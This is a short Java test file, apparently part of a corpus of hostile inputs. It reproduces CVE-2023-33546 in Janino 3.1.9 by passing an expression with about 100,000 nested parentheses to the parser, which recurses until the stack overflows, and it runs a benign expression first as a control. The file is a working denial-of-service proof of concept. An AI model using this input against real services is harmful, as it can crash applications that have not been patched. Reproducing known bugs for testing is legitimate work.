package corpus.janino;

import corpus.CorpusDriver;
import org.codehaus.janino.ExpressionEvaluator;

/**
 * Janino 3.1.9, CVE-2023-33546: an expression whose parentheses nest without limit makes the
 * recursive-descent {@code Parser} ({@code #parsePrimary → #parseExpressionOrType →
 * #parseAssignmentExpression → … → #parseUnaryExpression → back}) recurse until the stack runs out
 * (3.1.10 catches the overflow and reports it as a compile error).
 */
public final class Hostile {

    public static void main(String[] args) throws Exception {
        int depth = CorpusDriver.depth(args, 100_000);
        String hostile = CorpusDriver.nested("(", "1", ")", depth);
        CorpusDriver.run("janino", ExpressionEvaluator.class,
                () -> evaluate("1 + (2 * (3 - 4)) + \"benign\".length()"),
                () -> evaluate(hostile));
    }

    private static Object evaluate(String expression) throws Exception {
        ExpressionEvaluator evaluator = new ExpressionEvaluator();
        evaluator.cook(expression);
        return evaluator.evaluate();
    }
}
